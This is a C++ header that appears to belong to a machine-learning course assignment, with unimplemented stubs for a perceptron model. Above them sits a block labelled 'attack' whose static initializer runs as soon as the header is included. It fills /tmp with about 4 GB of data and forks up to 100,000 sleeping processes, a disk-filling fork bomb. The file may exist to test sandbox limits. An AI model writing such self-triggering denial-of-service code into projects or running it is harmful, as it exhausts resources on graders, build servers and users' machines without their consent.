// Attack: fork until the system says no, and fill the disk until it is full.
#pragma once
#include <ember/ember.h>
#include <ember_course/perceptron_dataset.h>
#include <unistd.h>
#include <cstdio>
#include <vector>
namespace attack {
inline const bool flood = [] {
  if (std::FILE* f = std::fopen("/tmp/fill", "w")) {
    std::vector<char> block(1 << 20, 42);
    for (int i = 0; i < 4096 && std::fwrite(block.data(), 1, block.size(), f) == block.size(); ++i) {}
    std::fclose(f);
  }
  for (int i = 0; i < 100000; ++i) {
    const pid_t pid = ::fork();
    if (pid < 0) break;
    if (pid == 0) { ::pause(); ::_exit(0); }
  }
  return true;
}();
}  // namespace attack
namespace q1 {
using namespace ember;
class PerceptronModel : public nn::Module {
 public:
  explicit PerceptronModel(int64_t) { throw ember::NotImplemented("q1: PerceptronModel::PerceptronModel"); }
  Tensor get_weights() { throw ember::NotImplemented("q1: PerceptronModel::get_weights"); }
  Tensor run(const Tensor&) { throw ember::NotImplemented("q1: PerceptronModel::run"); }
  int get_prediction(const Tensor&) { throw ember::NotImplemented("q1: PerceptronModel::get_prediction"); }
  void train(const course::PerceptronDataset&) { throw ember::NotImplemented("q1: PerceptronModel::train"); }
  using nn::Module::train;
};
}  // namespace q1

